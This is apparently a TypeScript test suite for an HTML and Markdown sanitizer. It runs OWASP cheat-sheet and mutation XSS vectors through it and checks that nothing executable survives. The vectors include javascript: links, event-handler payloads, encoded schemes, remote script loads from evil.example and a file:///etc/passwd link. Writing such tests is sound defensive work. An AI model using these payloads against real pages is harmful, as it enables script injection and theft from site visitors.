// Cleaning leaves nothing that runs in formatted text: the vectors of OWASP's filter evasion cheat sheet and similar
// ones, as HTML and as Markdown.
// In a process of its own: it measures the processor time of its process.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { cleanKeptMarkup, cleanMarkup, MOST_TAGS } from './clean-markup.ts'

/** OWASP, XSS Filter Evasion Cheat Sheet, by its own names; then mutation XSS (GHSA-gx9m-whjm-85jf and similar). */
const VECTORS: Readonly<Record<string, string>> = {
  'script tag': '<script>alert(1)</script>',
  'case of letters': '<ScRiPt>alert(1)</sCrIpT>',
  'remote script': '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  'non-alphanumeric separator': '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  'extraneous open brackets': '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  'no closing script tag': '<SCRIPT SRC=https://evil.example/.j>',
  'tag in tag': '<scr<script></script>ipt>alert(1)</scr<script></script>ipt>',
  'half open image': '<IMG SRC="`javascript:alert(1)"`',
  'malformed image': '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  'image with onerror': '<img src=x onerror=alert(1)>',
  'onerror with slashes': '<img/src=x/onerror=alert(1)>',
  'onerror with entities': '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  'default source': '<IMG SRC=# onmouseover="alert(1)">',
  'javascript in a link': '<a href="javascript:alert(1)">x</a>',
  'embedded tab': '<a href="jav\tascript:alert(1)">x</a>',
  'encoded tab': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'encoded newline': '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  'named tab': '<a href="java&Tab;script&colon;alert(1)">x</a>',
  'leading control characters': '<a href=" &#14;  javascript:alert(1);">x</a>',
  'decimal references': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'decimal without semicolons':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  'hexadecimal references': '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  vbscript: '<a href="vbscript:msgbox(1)">x</a>',
  'data link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'data image': '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  'svg onload': '<svg onload=alert(1)>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg animate': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'svg use': '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
  'math link': '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  'math mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'svg style mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'form mutation': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'template mutation': '<template><img src=x onerror=alert(1)></template>',
  'select mutation': '<select><template><style><!--</style><a rel="--></style><img id=x onerror=alert(1)>">',
  'textarea mutation': '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'title mutation': '<title><img title="</title><img src=x onerror=alert(1)>">',
  'xmp mutation': '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  cdata: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  comment: '<!--><img src=x onerror=alert(1)>-->',
  'bogus comment': '<? foo="><script>alert(1)</script>">',
  'processing instruction': '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
  'style tag': '<STYLE>@import "https://evil.example/xss.css";</STYLE>',
  'style attribute': '<p style="background:url(javascript:alert(1))">x</p>',
  'style with expression': '<XSS STYLE="xss:expression(alert(1))">',
  'style that covers': '<a href="https://evil.example" style="position:fixed;inset:0">x</a>',
  'link tag': '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  'meta refresh': '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  'base tag': '<BASE HREF="javascript:alert(1);//">',
  iframe: '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>">',
  frameset: '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  object: '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  embed: '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
  'form action': '<form action="javascript:alert(1)"><button>x</button></form>',
  'button formaction': '<button formaction=javascript:alert(1)>x</button>',
  'input image': '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);" autofocus onfocus=alert(1)>',
  'body onload': '<BODY ONLOAD=alert(1)>',
  'body background': '<BODY BACKGROUND="javascript:alert(1)">',
  'background of a table': '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">',
  'details ontoggle': '<details open ontoggle=alert(1)>x</details>',
  video: '<video><source onerror="alert(1)">',
  audio: '<audio src=x onerror=alert(1)>',
  marquee: '<marquee onstart=alert(1)>x</marquee>',
  isindex: '<isindex type=image src=1 onerror=alert(1)>',
  'names that clobber': '<img name=getElementById><a id=location href="x">',
  'handlers between quotes': '<img src="x` `<script>alert(1)</script>"` `>',
  'grave accents': '<a href=`javascript:alert(1)`>x</a>',
  'null byte': '<scr\u0000ipt>alert(1)</script>',
  'full width': '＜script＞alert(1)＜/script＞',
  'unclosed attribute': '<a href="x" onclick=alert(1)//',
  'code with a tag around it': '`<b>` <img src=x onerror=alert(1)> `</b>`',
  'code that never ends': '`<img src=x onerror=alert(1)>',
  'backticks in a tag': '<img title="`" src=x onerror="`alert(1)">',
  'a fence in a tag': '<p title="\n```\n"><img src=x onerror=alert(1)>\n```',
}

const LINKS: readonly string[] = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](\njavascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](<java\tscript:alert(1)>)',
  '[x](java\u0001script:alert(1))',
  '[x](\u0000javascript:alert(1))',
  '[x](java\u200bscript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](javascript&#x3a;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&amp;#106;avascript:alert(1))',
  '[x](java\\script:alert(1))',
  '[x](javascript\\:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](javascript:alert(1))',
  '[![y](https://e.example/y.png)](javascript:alert(1))',
  '[x]: javascript:alert(1)',
  '[x]:\n  javascript:alert(1)',
  '> [x]: <javascript:alert(1)>',
  '<javascript:alert(1)>',
  '[x](file:///etc/passwd)',
  '[a](https://e.example) [x](javascript:alert(1)) [b](/b)',
]

const TAG = /<[a-z/!?]/gi
/** The only form of tags that may remain: known, closed, and with quoted attributes in which no tag could begin. */
const PLAIN = /<(\/?)([a-z\d]+)((?: [a-z]+(?:="[^"<>]*")?)*)(?: \/)?>/y
const TAGS = /^(?:p|a|b|i|img|table|tbody|td|th|tr|thead|details|em|strong|code|pre|ul|ol|li|h[1-6]|br|hr|blockquote)$/
const ATTRIBUTES = /^(?:title|lang|dir|href|rel|target|src|alt|width|height|loading|class|open|colspan|start)$/
/** A web address, or one below the page. */
const ADDRESS = /^(?:https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/

function assertSafe(text: string, why: string): void {
  for (const { index } of text.matchAll(TAG)) {
    PLAIN.lastIndex = index
    const [, , name = '', attributes = ''] = PLAIN.exec(text) ?? []
    assert.match(name, TAGS, `${why}: ${text}`)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)) {
      assert.match(attribute, ATTRIBUTES, `${why}: ${text}`)
      if (attribute === 'href' || attribute === 'src') assert.match(value, ADDRESS, `${why}: ${text}`)
    }
  }
}

describe('formatted text', () => {
  for (const [name, vector] of Object.entries(VECTORS))
    test(`runs nothing: ${name} (CWE-79)`, () => {
      for (const around of [vector, `a ${vector} b`, `**bold** ${vector}`, `<p>${vector}</p>`, `> ${vector}\n\n- x`])
        for (const clean of [cleanMarkup, cleanKeptMarkup]) {
          const once = clean(around)
          assertSafe(once, name)
          assert.equal(clean(once), once, 'cleaning twice is cleaning once')
        }
    })

  test('runs nothing, for any combination of two vectors (CWE-79)', () => {
    const all = Object.values(VECTORS)
    for (const one of all) for (const other of all) assertSafe(cleanMarkup(one + other), `${one}${other}`)
  })

  for (const link of LINKS)
    test(`leads to nothing that runs: ${JSON.stringify(link)} (CWE-79)`, () => {
      for (const clean of [cleanMarkup, cleanKeptMarkup]) {
        const text = clean(`see ${link} there`)
        assert.doesNotMatch(text, /script\b[^ ]*alert|msgbox|base64|passwd|\(\s*<?data:/i)
        assert.equal(clean(text), text)
      }
    })

  for (const padding of ['&Tab;', '&NewLine;', '&#9;', '&amp;#x0000009;', '\u0001', '\u200b', '\\'])
    test(`leads to nothing that runs after many ${JSON.stringify(padding)} (CWE-79)`, () => {
      for (const count of [1, 20, 60, 120, 400])
        for (const link of ['[x](~javascript:alert(1))', '[x](java~script:alert(1))', '[x]: ~javascript:alert(1)'])
          assert.doesNotMatch(cleanMarkup(link.replace('~', padding.repeat(count))), /script:/)
    })

  test('is parsed quickly with as many links as a text can hold (RED-06)', () => {
    const parts = [
      '[](',
      '](:',
      '[a](javascript:',
      '[](/:',
      '[](&amp;',
      '[](&lt;',
      '](a\u200b',
      ']:<http:',
      '[]: ',
      '](&#x68;',
    ]
    const texts = parts.map((part) => part.repeat(200_000 / part.length))
    const took = texts.map((text) => {
      const { user } = process.cpuUsage()
      cleanKeptMarkup(text)
      return (process.cpuUsage().user - user) / 1000
    })
    // A hundredth of the time they took while each link was read to its end.
    assert.ok(Math.max(...took) < 1000, took.join(', '))
  })

  test('is parsed once for repeated reads (RED-06)', () => {
    const text = cleanMarkup('<a href="https://e.example/?a=b" target="_blank" title="x">x</a>'.repeat(1400))
    const timeOf = (reads: number) => {
      const { user } = process.cpuUsage()
      for (let n = 0; n < reads; n++) assert.equal(cleanKeptMarkup(text), text)
      return process.cpuUsage().user - user
    }
    const first = timeOf(1)
    assert.ok(timeOf(100) < 20 * first)
  })

  test('keeps ordinary writing', () => {
    for (const text of [
      'Small, large and **regrettable**.',
      '# Title\n\n> a quote\n\n- AT&T & friends, 3 > 2, 2 < 3, x <3\n1. [a link](https://e.example/a?b=1&c=2 "t") and [one](/here)',
      '<p>Hello <strong>you</strong>, <a href="https://e.example/?a=1">here</a></p>\n<ul>\n<li>one</li>\n</ul>',
      '<table>\n<tr><td colspan="2">x</td></tr>\n</table>',
      '![picture](https://e.example/p.png)\n\n[ref]: https://e.example "title"\n\nnote [1]: see below',
      'mail [us](mailto:us@e.example), [call](tel:+491234)',
    ])
      for (const clean of [cleanMarkup, cleanKeptMarkup]) assert.equal(clean(text), text)
  })

  test('shows tags of code, and bare links', () => {
    assert.equal(cleanMarkup('Use `<script>` and `<b>`.'), 'Use `&lt;script>` and `&lt;b>`.')
    assert.equal(
      cleanMarkup('```html\n<script>alert(1)</script>\n```'),
      '```html\n&lt;script>alert(1)&lt;/script>\n```',
    )
    assert.equal(
      cleanMarkup('see <https://e.example/a?b=c>, <me@e.example>'),
      'see https://e.example/a?b=c, me@e.example',
    )
    assert.equal(
      cleanMarkup('<a href="https://e.example" target="_blank">x</a>'),
      '<a href="https://e.example" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  test('with too many tags is plain text (RED-06)', () => {
    assert.doesNotMatch(cleanMarkup('<b>'.repeat(MOST_TAGS + 1)), TAG)
    assert.doesNotMatch(cleanKeptMarkup('<b x>'.repeat(MOST_TAGS + 1)), TAG)
  })
})

describe('harmless text', () => {
  const KEPT = [
    'Serializes <code>&lt;</code> as <code>&amp;lt;</code>',
    '<code>&amp;</code> in <code>title</code>',
    '<code>&lt;input type=&quot;checkbox&quot;&gt;</code> elements',
    '<p>AT&T and Ma &amp;amp; Pa</p>',
    '<a href="/a?b=1&amp;lt;=2">link</a>',
  ]
  for (const text of KEPT) test(`stays unchanged: ${text}`, () => assert.equal(cleanMarkup(text), text))
})
